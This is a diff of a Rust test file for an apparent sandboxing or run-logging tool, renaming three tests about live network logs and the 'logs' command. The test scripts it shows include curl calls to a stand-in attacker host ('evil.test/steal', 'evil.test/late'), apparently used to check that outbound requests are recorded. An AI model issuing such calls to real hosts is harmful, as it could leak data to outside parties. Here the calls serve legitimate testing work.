@@ -9,7 +9,7 @@ use serde_json::Value;
 use super::project::Project;
 
 #[tokio::test(flavor = "multi_thread")]
-async fn the_network_log_is_live_on_stderr_and_in_a_file() {
+async fn network_log_is_live_on_stderr_and_in_files() {
     let project = Project::new();
     let script =
         "curl -sS https://open.test/hello; curl -sS https://evil.test/steal >/dev/null; echo err >&2";
@@ -33,7 +33,7 @@ async fn the_network_log_is_live_on_stderr_and_in_a_file() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn logs_shows_the_newest_run_or_one_that_is_named() {
+async fn logs_shows_the_newest_or_the_named_run() {
     let project = Project::new();
     let none = project.output(&["logs"]);
     none.fails(125, "hint: ");
@@ -72,7 +72,7 @@ async fn logs_shows_the_newest_run_or_one_that_is_named() {
 }
 
 #[tokio::test(flavor = "multi_thread")]
-async fn a_log_is_followed_until_its_run_ends() {
+async fn followed_log_ends_with_its_run() {
     let project = Project::new();
     let (mut child, _stdout) =
         project.start("echo ready; until [ -e go ]; do sleep 0.1; done; curl -sS https://evil.test/late");
